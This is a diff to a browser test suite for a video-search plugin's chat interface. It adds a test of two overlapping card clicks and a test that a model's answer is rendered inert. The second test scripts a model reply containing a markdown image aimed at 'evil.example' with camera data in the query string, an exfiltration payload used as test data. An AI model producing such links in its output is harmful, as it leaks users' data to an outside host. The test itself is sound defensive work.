@@ -8,10 +8,14 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Page, Route
 
 from tests.browser.conftest import ask, cards, playing, screenshot, wait_until_visible
+from var_plugin.api import Index
+from var_plugin.app.conversation import ChatRequest
 from var_plugin.app.media_registry import MediaRegistry
+from var_plugin.app.options import PageOptions
+from var_plugin.app.serve import running_page
 from var_plugin.media.clips import Clip
 from var_plugin.types import Moment
 
@@ -95,13 +99,30 @@ def test_messages_sent_while_a_clip_is_cut_are_all_answered(
     page.wait_for_function("() => document.querySelectorAll('#vp-chat .vp-cards').length === 4")
     assert page.locator("#vp-chat .user-row").count() == 4
     assert len(chips(page)) == 4, "each message refines the previous one"
-    page.locator(".vp-cards").first.locator(".vp-card").nth(0).click()
-    page.wait_for_timeout(500)  # as a person clicks; two requests at once may reach the server in either order
-    page.locator(".vp-cards").first.locator(".vp-card").nth(1).click()
+
+
+def test_the_later_of_two_clicks_wins_even_if_it_arrives_first(visit: Visit, colors: str) -> None:
+    page = visit(colors)
+    ask(page, "green")
+    playing(page)
+    held: list[Route] = []
+
+    def hold_first(route: Route) -> None:
+        if '"number":1}' in (route.request.post_data or ""):
+            held.append(route)
+        else:
+            route.continue_()
+
+    page.route("**/run/predict*", hold_first)
+    page.locator(".vp-card").nth(0).click()
+    page.locator(".vp-card").nth(1).click()
     page.wait_for_function("() => document.querySelector('video.vp-video')?.dataset.start === '24.000'")
-    page.wait_for_timeout(3_500)
-    assert playing(page)["start"] == 24, "the later of two clicks wins"
-    assert len(chips(page)) == 4
+    assert len(held) == 1, "the first click is still on its way"
+    with page.expect_response("**/run/predict*"):
+        held[0].continue_()
+    ask(page, "play the tenth")  # its answer comes after the effect of the first click
+    assert "not one of the 4 moments" in page.inner_text("#vp-chat")
+    assert playing(page)["start"] == 24
 
 
 def test_an_image_and_a_moment_are_queries(visit: Visit, colors: str, tmp_path: Path) -> None:
@@ -185,6 +206,27 @@ def test_small_screens_and_dark_mode(visit: Visit, colors: str) -> None:
     screenshot(dark, "dark")
     background = dark.evaluate("() => getComputedStyle(document.body).backgroundColor")
     assert sum(map(int, background.removeprefix("rgb(").removesuffix(")").split(", "))) < 200
+
+
+def test_images_and_links_in_the_answer_of_a_model_are_plain_text(
+    visit: Visit, colors_index: Index, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The fixture `visit` fails the test if the browser requests anything from another host."""
+    answer = "It is ![there](http://evil.example/leak.png?cameras=north) [here](http://evil.example/) <b>now</b>"
+
+    class Scripted:
+        def read(self, *_: object) -> tuple[ChatRequest, str]:
+            return ChatRequest(text="green"), answer
+
+    monkeypatch.setattr("var_plugin.app.serve.load_assistant", lambda name: Scripted())
+    with running_page(colors_index, PageOptions(model="openai:scripted")) as address:
+        page = visit(address)
+        ask(page, "where is it?")
+        assert "north-gate" in cards(page)[0]
+        assert "![there](http" in page.inner_text("#vp-chat")
+        assert "provider, openai" in page.inner_text("#vp-ask")
+        active = page.locator("#vp-chat .message a, #vp-chat .message b, #vp-chat img[src*=evil]")
+        assert active.evaluate_all("nodes => nodes.map(node => node.outerHTML)") == []
 
 
 def test_html_in_a_message_is_escaped(visit: Visit, colors: str) -> None:
